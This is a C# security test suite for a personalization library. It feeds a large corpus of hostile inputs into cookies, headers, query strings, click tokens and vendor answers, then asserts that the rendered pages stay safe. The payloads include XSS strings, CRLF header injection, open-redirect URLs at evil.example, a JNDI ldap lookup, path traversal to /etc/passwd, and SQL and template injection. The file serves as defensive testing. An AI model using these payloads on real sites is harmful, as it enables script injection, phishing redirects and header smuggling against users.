using System.Collections.Concurrent;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Primitives;
using ServerSidePersonalization.AspNetCore.Clicks;
using ServerSidePersonalization.Experiences;
using ServerSidePersonalization.Identity;
using ServerSidePersonalization.Tests.Infrastructure;
using ServerSidePersonalization.Tests.Vendors.DynamicYield;
using ServerSidePersonalization.Tests.Vendors.MoEngage;

namespace ServerSidePersonalization.Tests.Security;

/// <summary>
/// Issue 11, item 6: a data-driven corpus of hostile inputs (cookies, the customer-id header, query attributes,
/// User-Agent, Accept-Language, click tokens and targets, Sec-GPC, vendor answers). Each request goes to a real app
/// whose stub vendor answers normally and echoes every string it was sent into the rendered Title and the CTA link, so
/// what the visitor sends is rendered back: no 5xx, no off-site redirect, no injected header or cookie, no script in
/// the HTML, and an oversized vendor answer is refused while it streams.
/// </summary>
public sealed class AbuseCorpusTests(AbuseCorpusTests.Apps apps) : IClassFixture<AbuseCorpusTests.Apps>
{
    private const string ClickPath = "/_personalization/click";
    private const string Fallback = "Fallback hero";

    /// <summary>Hostile strings used in every request-side slot.</summary>
    private static readonly (string Name, string Value)[] Payloads =
    [
        ("script tag", "<script>alert(1)</script>"),
        ("script tag, upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
        ("attribute breakout", "\"><script>alert(1)</script>"),
        ("single-quote breakout", "'><img src=x onerror=alert(1)>"),
        ("title breakout", "</title><script>alert(1)</script>"),
        ("svg onload", "<svg/onload=alert(1)>"),
        ("iframe", "<iframe src=javascript:alert(1)>"),
        ("javascript URL", "javascript:alert(1)"),
        ("javascript URL, mixed case", "JaVaScRiPt:alert(document.cookie)"),
        ("data URL", "data:text/html,<script>alert(1)</script>"),
        ("vbscript URL", "vbscript:msgbox(1)"),
        ("scheme-relative URL", "//evil.example/x"),
        ("off-site URL", "https://evil.example/phish"),
        ("CRLF Set-Cookie", "x\r\nSet-Cookie: injected=1"),
        ("CRLF Location", "x\r\nLocation: https://evil.example"),
        ("LF only", "x\nX-Injected: 1"),
        ("encoded CRLF", "x%0d%0aSet-Cookie:%20injected=1"),
        ("NUL", "\0"),
        ("embedded NUL", "abc\0def"),
        ("escape sequence", "\u001b[31mred\u001b[0m"),
        ("line separators", "a\u2028b\u2029c"),
        ("BOM", "\uFEFFvalue"),
        ("replacement character", "\uFFFD\uFFFD"),
        ("non-ASCII", "Ω≈ç√∫ 訪問者 مرحبا"),
        ("astral plane", "𝕏𝕐𝕫 😀"),
        ("right-to-left override", "abc\u202Egnp.exe"),
        ("SQL", "' OR '1'='1' --"),
        ("template", "{{7*7}}${7*7}<%= 7*7 %>"),
        ("JNDI", "${jndi:ldap://evil.example/a}"),
        ("path traversal", "../../../../etc/passwd"),
        ("double-encoded traversal", "%252e%252e%252f%252e%252e%252f"),
        ("encoded NUL", "%00"),
        ("JSON", "{\"customer_id\":\"admin\"}"),
        ("JSON breakout", "\",\"customer_id\":\"admin"),
        ("quote", "\""),
        ("backslash", "\\"),
        ("semicolon", "a;b=c"),
        ("comma", "a,b"),
        ("equals", "=="),
        ("spaces", "   "),
        ("empty", ""),
        ("8 KB", new string('A', 8 * 1024)),
        ("64 KB", new string('B', 64 * 1024)),
        ("5000 angle brackets", new string('<', 5000)),
        ("10000 quotes", new string('"', 10_000)),
    ];

    private static readonly string[] RequestSlots = ["cookie ssp_vid", "cookie moe_uuid", "cookies _dyid/_dyjsession", "customer-id header", "query utm_source", "User-Agent", "Accept-Language"];

    /// <summary>Click targets sealed in genuine tokens, beyond the payloads.</summary>
    private static readonly string[] ClickTargets =
    [
        "//evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "https://evil.example", "http://evil.example",
        "https://shop.example@evil.example", "https://evil.example:x@shop.example/", "https://shop.example.evil.example/",
        "https://shop.example%2F%2Fevil.example/", "https:evil.example", "https:///evil.example", "ftp://shop.example/",
        "java\tscript:alert(1)", " javascript:alert(1)", "/%2F%2Fevil.example", "%2F%2Fevil.example", "/%5Cevil.example",
        "/\t/evil.example", "/\n/evil.example", "/x%0d%0aSet-Cookie:a=b", "/x\r\nLocation: https://evil.example",
        "/\uFF0F\uFF0Fevil.example", "https://shop.\u0435xample/x", "https://evil.example\u3002shop.example/", "evil.example",
        "/" + new string('a', 10_000), "/landing/ok", "/search?next=https://evil.example", "https://shop.example/ok",
    ];

    private static readonly (string Name, StringValues Value)[] GpcVariants =
    [
        ("1", "1"), ("0", "0"), ("true", "true"), ("false", "false"), ("empty", ""), ("space 1", " 1 "), ("two values", new StringValues(["1", "0"])),
        ("list", "1, 1"), ("with parameter", "1;q=0"), ("2", "2"), ("-1", "-1"), ("NUL", "\0"), ("CRLF", "1\r\nSet-Cookie: injected=1"),
        ("huge", new string('1', 16 * 1024)), ("unicode", "١"), ("script", "<script>alert(1)</script>"),
    ];

    /// <summary>Vendor answers: name, and how the Title is written (a JSON value) or the whole body.</summary>
    private static readonly Dictionary<string, VendorAnswer> VendorAnswers = BuildVendorAnswers();

    public static TheoryData<string, int> RequestCases()
    {
        var data = new TheoryData<string, int>();
        foreach (var slot in RequestSlots)
        {
            for (var i = 0; i < Payloads.Length; i++)
            {
                data.Add(slot, i);
            }
        }

        return data;
    }

    public static TheoryData<int> ClickTokenCases() => [.. Enumerable.Range(0, Payloads.Length)];

    public static TheoryData<int> ClickTargetCases() => [.. Enumerable.Range(0, Payloads.Length + ClickTargets.Length)];

    public static TheoryData<int> GpcCases() => [.. Enumerable.Range(0, GpcVariants.Length)];

    public static TheoryData<string, string> VendorAnswerCases()
    {
        var data = new TheoryData<string, string>();
        foreach (var vendor in new[] { "MoEngage", "DynamicYield" })
        {
            foreach (var name in VendorAnswers.Keys)
            {
                data.Add(vendor, name);
            }
        }

        return data;
    }

    [Fact]
    public void Corpus_HasAtLeast250HostileInputs()
    {
        var sizes = new Dictionary<string, int>
        {
            ["request slots"] = RequestCases().Count,
            ["click tokens"] = ClickTokenCases().Count,
            ["click targets"] = ClickTargetCases().Count,
            ["Sec-GPC"] = GpcCases().Count,
            ["vendor answers"] = VendorAnswerCases().Count + 1,
        };
        Assert.True(sizes.Values.Sum() >= 250, string.Join(", ", sizes.Select(s => $"{s.Key}: {s.Value}")));
    }

    [Theory]
    [MemberData(nameof(RequestCases))]
    public async Task RequestSide_HostileInput_IsHarmless(string slot, int payload)
    {
        var (_, value) = Payloads[payload];
        var visitor = NewVisitor();
        var context = await apps.MoEngage.SendRawAsync(c =>
        {
            c.Request.Method = HttpMethods.Get;
            c.Request.Path = "/Tags/Hero";
            c.Request.Headers.Cookie = "ssp_vid=" + visitor;
            switch (slot)
            {
                case "cookie ssp_vid":
                    c.Request.Headers.Cookie = "ssp_vid=" + value;
                    break;
                case "cookie moe_uuid":
                    c.Request.Headers.Cookie = $"ssp_vid={visitor}; moe_uuid={value}";
                    break;
                case "cookies _dyid/_dyjsession":
                    c.Request.Headers.Cookie = $"ssp_vid={visitor}; _dyid={value}; _dyid_server={value}; _dyjsession={value}";
                    break;
                case "customer-id header":
                    c.Request.Headers["X-Customer-Id"] = value;
                    break;
                case "query utm_source":
                    c.Request.QueryString = QueryString.Create("utm_source", value);
                    break;
                case "User-Agent":
                    c.Request.Headers.UserAgent = value;
                    break;
                case "Accept-Language":
                    c.Request.Headers.AcceptLanguage = value;
                    break;
                default:
                    throw new ArgumentOutOfRangeException(nameof(slot));
            }
        });

        await AssertHarmlessAsync(context, value);
    }

    [Fact]
    public async Task RequestSide_EchoIsRendered_SoTheHtmlAssertionsCanFail()
    {
        // The stub echoes what it is sent into the Title and the CTA: a script in utm_source reaches the page, encoded.
        var context = await apps.MoEngage.SendRawAsync(c =>
        {
            c.Request.Method = HttpMethods.Get;
            c.Request.Path = "/Tags/Hero";
            c.Request.Headers.Cookie = "ssp_vid=" + NewVisitor();
            c.Request.QueryString = QueryString.Create("utm_source", "<script>alert('echo')</script>");
        });

        var html = await ReadAsync(context);
        Assert.Contains("&lt;script&gt;alert(&#x27;echo&#x27;)&lt;/script&gt;", html, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(ClickTokenCases))]
    public async Task ClickToken_Hostile_Answers400WithoutRedirect(int payload)
    {
        var (_, value) = Payloads[payload];
        var context = await apps.MoEngage.SendRawAsync(c =>
        {
            c.Request.Method = HttpMethods.Get;
            c.Request.Path = ClickPath;
            c.Request.QueryString = QueryString.Create("t", value);
            c.Request.Headers.Cookie = "ssp_vid=" + NewVisitor();
        });

        await AssertHarmlessAsync(context, value);
        Assert.Equal(StatusCodes.Status400BadRequest, context.Response.StatusCode);
        Assert.False(context.Response.Headers.ContainsKey("Location"));
    }

    [Theory]
    [MemberData(nameof(ClickTargetCases))]
    public async Task ClickTarget_Hostile_RedirectsOnlyLocallyOrToAnAllowedHost(int index)
    {
        var target = index < Payloads.Length ? Payloads[index].Value : ClickTargets[index - Payloads.Length];
        var tokens = apps.MoEngage.Services.GetRequiredService<ClickTokens>();
        using var attribution = JsonDocument.Parse("""{"variant":"only"}""");
        var token = tokens.Protect(ClickToken.Create("hero", new ExperienceAttribution("Local", attribution.RootElement.Clone(), "only"), "cta", null, target, VisitorIdentity.Anonymous));
        var context = await apps.MoEngage.SendRawAsync(c =>
        {
            c.Request.Method = HttpMethods.Get;
            c.Request.Path = ClickPath;
            c.Request.QueryString = QueryString.Create("t", token);
            c.Request.Headers.Cookie = "ssp_vid=" + NewVisitor();
        });

        await AssertHarmlessAsync(context, IsLocalOrAllowed(target) ? null : target);
        Assert.True(context.Response.StatusCode is StatusCodes.Status302Found or StatusCodes.Status400BadRequest, $"{context.Response.StatusCode}");
        Assert.Equal(context.Response.StatusCode == StatusCodes.Status302Found, context.Response.Headers.ContainsKey("Location"));
    }

    [Theory]
    [MemberData(nameof(GpcCases))]
    public async Task SecGpc_Variant_NoServerError(int variant)
    {
        var (_, value) = GpcVariants[variant];
        foreach (var path in new[] { "/Tags/Hero", "/Tags/Click" })
        {
            var context = await apps.MoEngage.SendRawAsync(c =>
            {
                c.Request.Method = HttpMethods.Get;
                c.Request.Path = path;
                c.Request.Headers["Sec-GPC"] = value;
            });

            Assert.True(context.Response.StatusCode < 500, $"{path}: {context.Response.StatusCode}");
        }
    }

    [Theory]
    [MemberData(nameof(VendorAnswerCases))]
    public async Task VendorAnswer_Hostile_PageRendersFallbackOrEncodedValue(string vendor, string name)
    {
        var answer = VendorAnswers[name];
        var visitor = NewVisitor();
        apps.Answers[visitor] = answer.Respond(vendor);
        var app = vendor == "MoEngage" ? apps.MoEngage : apps.DynamicYield;

        var context = await app.SendRawAsync(c =>
        {
            c.Request.Method = HttpMethods.Get;
            c.Request.Path = "/Tags/Hero";
            c.Request.Headers.Cookie = "ssp_vid=" + visitor;
        });

        Assert.True(context.Response.StatusCode == StatusCodes.Status200OK, $"{context.Response.StatusCode}: {string.Join('\n', app.Logs.Entries.Where(e => e.Level >= Microsoft.Extensions.Logging.LogLevel.Error).Select(e => e.Message + " " + e.Exception))}");
        var html = await AssertHarmlessAsync(context, answer.Reflected);
        Assert.Contains("</main>", html, StringComparison.Ordinal);
        Assert.True(html.Contains(Fallback, StringComparison.Ordinal) || html.Contains("<h1>", StringComparison.Ordinal), html.Length > 2000 ? html[..2000] : html);
        Assert.True((vendor == "MoEngage" ? apps.MoEngageStub : apps.DynamicYieldStub).Requests.Any(r => r.Text.Contains(visitor, StringComparison.Ordinal)), "the vendor was never asked");
    }

    [Fact]
    public async Task VendorAnswer_64MBStream_IsRefusedWhileStreaming()
    {
        // The stub streams until the app hangs up. Kestrel may discard writes after the client has gone before it
        // signals RequestAborted, so what the stub wrote proves nothing either way; the app's own account does: the
        // size cap was hit while reading (logged once by a fresh app) and the page rendered its fallback.
        const long limit = 64L * 1024 * 1024;
        await using var stub = await StubVendorServer.StartAsync();
        stub.Respond = _ => new StubResponse(200, Writer: async response =>
        {
            response.ContentType = "application/json";
            var chunk = Encoding.UTF8.GetBytes(new string('a', 64 * 1024));
            var aborted = response.HttpContext.RequestAborted;
            try
            {
                await response.Body.WriteAsync(Encoding.UTF8.GetBytes("""{"experiences":{"hero":{"payload":{"Title":{"value":" """), aborted);
                for (long written = 0; written < limit && !aborted.IsCancellationRequested; written += chunk.Length)
                {
                    await response.Body.WriteAsync(chunk, aborted);
                    await response.Body.FlushAsync(aborted);
                }
            }
            catch (Exception ex) when (ex is IOException or OperationCanceledException or InvalidOperationException)
            {
                // The app hung up.
            }
        });
        await using var app = await TestApp.StartAsync(Vendors.MoEngage.MoEngageStub.Settings(stub));

        var page = await app.GetPageAsync("/Tags/Hero", ("ssp_vid", NewVisitor()));

        Assert.Contains(Fallback, page, StringComparison.Ordinal);
        Assert.True(await Eventually.TrueAsync(() => app.Logs.Named("MoEngageFetchFailed").Count > 0));
        Assert.Contains("answer over the size cap", Assert.Single(app.Logs.Named("MoEngageFetchFailed")).Message, StringComparison.Ordinal);
    }

    private static Dictionary<string, VendorAnswer> BuildVendorAnswers()
    {
        var answers = new Dictionary<string, VendorAnswer>(StringComparer.Ordinal);
        foreach (var (name, value) in Payloads)
        {
            answers["Title: " + name] = VendorAnswer.Title(JsonValue.Create(value).ToJsonString(), value);
            answers["CtaUrl: " + name] = VendorAnswer.Cta(JsonValue.Create(value).ToJsonString(), value);
        }

        static string Nest(int depth, string inner) => new StringBuilder().Insert(0, "[", depth).Append(inner).Append(']', depth).ToString();
        var manyKeys = new StringBuilder("{");
        for (var i = 0; i < 50_000; i++)
        {
            manyKeys.Append(i == 0 ? string.Empty : ",").Append("\"k").Append(i).Append("\":\"<script>").Append(i).Append("</script>\"");
        }

        manyKeys.Append('}');
        var manyElements = "[" + string.Join(',', Enumerable.Repeat("\"<b>x</b>\"", 50_000)) + "]";

        // Title as a JSON value of the wrong or a hostile shape.
        foreach (var (name, json) in new (string, string)[]
        {
            ("Title object", "{}"), ("Title array", "[]"), ("Title number", "42"), ("Title true", "true"), ("Title null", "null"),
            ("Title NaN string", "\"NaN\""), ("Title Infinity string", "\"-Infinity\""), ("Title 1e400", "1e400"), ("Title -0", "-0"),
            ("Title huge integer", "123456789012345678901234567890123456789"), ("Title escaped NUL", "\"a\\u0000b\""),
            ("Title escaped controls", "\"\\u0001\\u001b\\u007f\\u0085\""), ("Title lone surrogate", "\"\\ud800\""),
            ("Title nested script object", "{\"value\":\"<script>alert(1)</script>\"}"),
            ("Title nested 64", Nest(64, "\"<script>alert(1)</script>\"")), ("Title nested 1000", Nest(1000, "1")), ("Title nested 100000", Nest(100_000, "1")),
            ("Title 50,000 keys", manyKeys.ToString()), ("Title 50,000 elements", manyElements),
            ("Title 512 KB of angle brackets", JsonValue.Create(new string('<', 512 * 1024)).ToJsonString()),
            ("Title 2 MB string (over the cap)", JsonValue.Create(new string('x', 2 * 1024 * 1024)).ToJsonString()),
        })
        {
            answers[name] = VendorAnswer.Title(json, null);
        }

        // Whole bodies: not JSON, the wrong shape, hostile at the top.
        foreach (var (name, body) in new (string, string)[]
        {
            ("empty body", string.Empty), ("null", "null"), ("array", "[]"), ("string", "\"<script>alert(1)</script>\""), ("number", "1"),
            ("NaN literal", "NaN"), ("Infinity literal", "{\"experiences\":Infinity}"), ("truncated", "{\"experiences\":{\"hero\":"),
            ("trailing garbage", "{\"experiences\":{}} <script>"), ("raw control characters", "{\"experiences\":{\"hero\":\"\u0001\u0002\"}}"),
            ("single quotes", "{'experiences':{}}"), ("comments", "{/* x */\"experiences\":{}}"), ("BOM", "\uFEFF{\"experiences\":{}}"),
            ("HTML page", "<html><script>alert(1)</script></html>"), ("top-level nested 100000", Nest(100_000, "0")),
            ("experiences array", "{\"experiences\":[],\"choices\":{}}"), ("experiences string", "{\"experiences\":\"hero\",\"choices\":\"hero\"}"),
            ("experiences 50,000 keys", "{\"experiences\":" + manyKeys + ",\"choices\":" + manyElements + "}"),
            ("lone surrogates in context, slots and ids", "{\"experiences\":{\"hero\":{\"payload\":{},\"experience_context\":{\"moe_variation_id\":\"\\udc00\"}}},\"choices\":[{\"id\":1,\"name\":\"hero\",\"decisionId\":\"\\ud800\",\"variations\":[{\"id\":\"\\ud800\",\"payload\":{\"type\":\"RECS\",\"data\":{\"custom\":{},\"slots\":[{\"slotId\":\"\\ud800\",\"sku\":\"\\udc00\",\"productData\":{\"name\":\"\\ud800\"}}]}}}]}]}"),
            ("hero null", "{\"experiences\":{\"hero\":null},\"choices\":[null]}"), ("hero number", "{\"experiences\":{\"hero\":1},\"choices\":[1]}"),
            ("duplicate keys", "{\"experiences\":{},\"experiences\":{\"hero\":[]},\"choices\":[],\"choices\":{}}"),
        })
        {
            answers["body: " + name] = VendorAnswer.Body(body);
        }

        answers["invalid UTF-8"] = new VendorAnswer(_ => _ => new StubResponse(200, Writer: async r =>
        {
            r.ContentType = "application/json";
            await r.Body.WriteAsync(new byte[] { 0x7B, 0x22, 0xC3, 0x28, 0xFF, 0xFE, 0x22, 0x3A, 0x31, 0x7D });
        }), null);
        answers["Content-Length over the cap"] = new VendorAnswer(_ => _ => new StubResponse(200, Writer: async r =>
        {
            r.ContentType = "application/json";
            r.ContentLength = 2 * 1024 * 1024;
            try
            {
                await r.Body.WriteAsync(Encoding.UTF8.GetBytes("{\"experiences\":{}}" + new string(' ', 2 * 1024 * 1024 - 18)));
            }
            catch (Exception ex) when (ex is IOException or OperationCanceledException or InvalidOperationException)
            {
            }
        }), null);
        answers["gzip claimed, plain sent"] = new VendorAnswer(_ => _ => new StubResponse(200, "{\"experiences\":{}}", Headers: new Dictionary<string, string> { ["Content-Encoding"] = "gzip" }), null);
        answers["text/html content type"] = new VendorAnswer(_ => _ => new StubResponse(200, Writer: r =>
        {
            r.ContentType = "text/html";
            return r.WriteAsync("<script>alert(1)</script>");
        }), null);
        return answers;
    }

    /// <summary>The shared assertions: no 5xx, only the library's or ASP.NET's cookies, no CR/LF or input in a header, a safe Location, no script in the HTML.</summary>
    private static async Task<string> AssertHarmlessAsync(HttpContext context, string? input)
    {
        var response = context.Response;
        Assert.True(response.StatusCode < 500, $"{response.StatusCode}");
        foreach (var (name, values) in response.Headers)
        {
            foreach (var value in values)
            {
                Assert.False(value is null || value.AsSpan().IndexOfAny('\r', '\n', '\0') >= 0, $"{name}: {value}");
                Assert.False(input is { Length: >= 8 } && value.Contains(input, StringComparison.Ordinal), $"{name} carries the input: {value}");
            }
        }

        foreach (var cookie in response.Headers.SetCookie)
        {
            var name = cookie!.Split('=')[0];
            Assert.True(name is "ssp_vid" or "ssp_dysid" or "_dyid_server" or "_dyjsession" || name.StartsWith(".AspNetCore.", StringComparison.Ordinal), cookie);
        }

        if (response.Headers.Location.ToString() is { Length: > 0 } location)
        {
            Assert.True(IsLocalOrAllowed(location), location);
        }

        var html = await ReadAsync(context);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<svg", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        if (input is not null && (input.Contains('<', StringComparison.Ordinal) || (input.Length >= 8 && input.Contains('"', StringComparison.Ordinal))))
        {
            Assert.DoesNotContain(input, html, StringComparison.Ordinal);
        }

        foreach (Match link in Regex.Matches(html, "href=\"([^\"]*)\""))
        {
            var href = WebUtility.HtmlDecode(link.Groups[1].Value);
            Assert.True(IsSafeHref(href), href);
        }

        return html;
    }

    private static async Task<string> ReadAsync(HttpContext context)
    {
        if (context.Response.Body.CanSeek)
        {
            context.Response.Body.Position = 0;
        }

        using var reader = new StreamReader(context.Response.Body, leaveOpen: true);
        return await reader.ReadToEndAsync();
    }

    /// <summary>
    /// A link the page may render: a relative reference (it stays on the site) or an http(s) URL; never another scheme
    /// (javascript:, data:), a scheme-relative host, or anything a browser would strip into one.
    /// </summary>
    private static bool IsSafeHref(string href)
    {
        if (href.Length > 0 && href[0] <= ' ')
        {
            return false;
        }

        if (href.AsSpan().IndexOfAny('\r', '\n', '\t') >= 0 || href.StartsWith("//", StringComparison.Ordinal) || href.StartsWith('\\') || href.StartsWith("/\\", StringComparison.Ordinal))
        {
            return false;
        }

        var end = href.AsSpan().IndexOfAny(":/?#");
        if (end < 0 || href[end] != ':')
        {
            return true;
        }

        return Uri.TryCreate(href, UriKind.Absolute, out var uri) && (uri.Scheme == Uri.UriSchemeHttps || uri.Scheme == Uri.UriSchemeHttp);
    }

    /// <summary>A Location the app may send: a local path, or an http(s) URL on the allowed host.</summary>
    private static bool IsLocalOrAllowed(string location)
    {
        if (location.AsSpan().ContainsAnyExceptInRange('!', '~') || location.Contains('\\', StringComparison.Ordinal))
        {
            return false;
        }

        if (location.StartsWith('/'))
        {
            return !location.StartsWith("//", StringComparison.Ordinal);
        }

        return Uri.TryCreate(location, UriKind.Absolute, out var uri)
            && (uri.Scheme == Uri.UriSchemeHttps || uri.Scheme == Uri.UriSchemeHttp)
            && uri.UserInfo.Length == 0
            && uri.Host == "shop.example";
    }

    private static string NewVisitor() => $"v-{Guid.NewGuid():N}";

    /// <summary>All string values of a JSON body, depth first.</summary>
    private static IEnumerable<string> Strings(JsonNode? node) => node switch
    {
        JsonObject o => o.SelectMany(p => Strings(p.Value)),
        JsonArray a => a.SelectMany(Strings),
        JsonValue v when v.TryGetValue<string>(out var s) => [s],
        _ => [],
    };

    /// <summary>A hostile vendor answer, and the string it may reflect into the page (checked as not rendered raw).</summary>
    internal sealed record VendorAnswer(Func<string, Func<RecordedRequest, StubResponse>> Respond, string? Reflected)
    {
        public static VendorAnswer Title(string titleJson, string? reflected) => Fields(titleJson, "\"/landing/hero\"", reflected);

        public static VendorAnswer Cta(string ctaJson, string? reflected) => Fields("\"Hero\"", ctaJson, reflected);

        public static VendorAnswer Body(string body) => new(_ => _ => StubResponse.Json(body), null);

        private static VendorAnswer Fields(string titleJson, string ctaJson, string? reflected) => new(
            vendor => _ => StubResponse.Json(vendor == "MoEngage"
                ? "{\"experiences\":{\"hero\":{\"payload\":{\"Title\":{\"value\":" + titleJson + ",\"data_type\":\"string\"},\"CtaUrl\":{\"value\":" + ctaJson + ",\"data_type\":\"string\"}},\"experience_context\":{\"cid\":\"c\"}}}}"
                : "{\"choices\":[{\"id\":1,\"name\":\"hero\",\"type\":\"DECISION\",\"decisionId\":\"d\",\"variations\":[{\"id\":5,\"payload\":{\"type\":\"CUSTOM_JSON\",\"data\":{\"Title\":" + titleJson + ",\"CtaUrl\":" + ctaJson + "}}}]}],\"cookies\":[]}"),
            reflected);
    }

    /// <summary>
    /// A MoEngage app (with utm_source from the query and the customer id from X-Customer-Id) and a Dynamic Yield app
    /// (ApiOnly, so the choose call carries ssp_vid), each against a stub that answers hostile answers registered by
    /// visitor id and otherwise echoes every string it was sent into the Title and (utm_source) into the CTA.
    /// </summary>
    public sealed class Apps : IAsyncLifetime
    {
        internal ConcurrentDictionary<string, Func<RecordedRequest, StubResponse>> Answers { get; } = new();

        internal TestApp MoEngage { get; private set; } = null!;

        internal TestApp DynamicYield { get; private set; } = null!;

        internal StubVendorServer MoEngageStub { get; private set; } = null!;

        internal StubVendorServer DynamicYieldStub { get; private set; } = null!;

        public async Task InitializeAsync()
        {
            MoEngageStub = await StubVendorServer.StartAsync();
            DynamicYieldStub = await StubVendorServer.StartAsync();
            MoEngageStub.Respond = request => Registered(request) ?? Echo(request, "MoEngage");
            DynamicYieldStub.Respond = request => Registered(request) ?? Echo(request, "DynamicYield");
            var shared = new (string, string?)[]
            {
                ("Personalization:Context:Attributes:utm_source", "query:utm_source"),
                ("Personalization:Identity:CustomerIdHeader", "X-Customer-Id"),
                ("Personalization:Clicks:AllowedHosts:0", "shop.example"),
            };
            MoEngage = await TestApp.StartAsync(Vendors.MoEngage.MoEngageStub.Settings(MoEngageStub, shared));
            DynamicYield = await TestApp.StartAsync(Vendors.DynamicYield.DynamicYieldStub.Settings(DynamicYieldStub, [.. shared, ("Personalization:DynamicYield:Mode", "ApiOnly")]));
        }

        public async Task DisposeAsync()
        {
            await MoEngage.DisposeAsync();
            await DynamicYield.DisposeAsync();
            await MoEngageStub.DisposeAsync();
            await DynamicYieldStub.DisposeAsync();
        }

        private StubResponse? Registered(RecordedRequest request)
        {
            var text = request.Text;
            foreach (var (visitor, answer) in Answers)
            {
                if (text.Contains(visitor, StringComparison.Ordinal))
                {
                    return answer(request);
                }
            }

            return null;
        }

        private static StubResponse Echo(RecordedRequest request, string vendor)
        {
            var body = JsonNode.Parse(request.Body);
            var title = string.Join(" | ", Strings(body));
            var cta = body?["utm_source"]?.GetValueKind() == JsonValueKind.String ? (string)body["utm_source"]! : FindUtm(body) ?? "/landing/hero";
            return StubResponse.Json(vendor == "MoEngage"
                ? new JsonObject
                {
                    ["experiences"] = new JsonObject
                    {
                        ["hero"] = new JsonObject
                        {
                            ["payload"] = new JsonObject
                            {
                                ["Title"] = new JsonObject { ["value"] = title, ["data_type"] = "string" },
                                ["CtaUrl"] = new JsonObject { ["value"] = cta, ["data_type"] = "string" },
                            },
                            ["experience_context"] = Vendors.MoEngage.MoEngageStub.Context("hero"),
                        },
                    },
                }.ToJsonString()
                : Vendors.DynamicYield.DynamicYieldStub.Body([Vendors.DynamicYield.DynamicYieldStub.CustomJson("hero", new JsonObject { ["Title"] = title, ["CtaUrl"] = cta })]));
        }

        private static string? FindUtm(JsonNode? node) => node switch
        {
            JsonObject o => o.Select(p => p.Key == "utm_source" && p.Value?.GetValueKind() == JsonValueKind.String ? (string)p.Value! : FindUtm(p.Value)).FirstOrDefault(v => v is not null),
            JsonArray a => a.Select(FindUtm).FirstOrDefault(v => v is not null),
            _ => null,
        };
    }
}
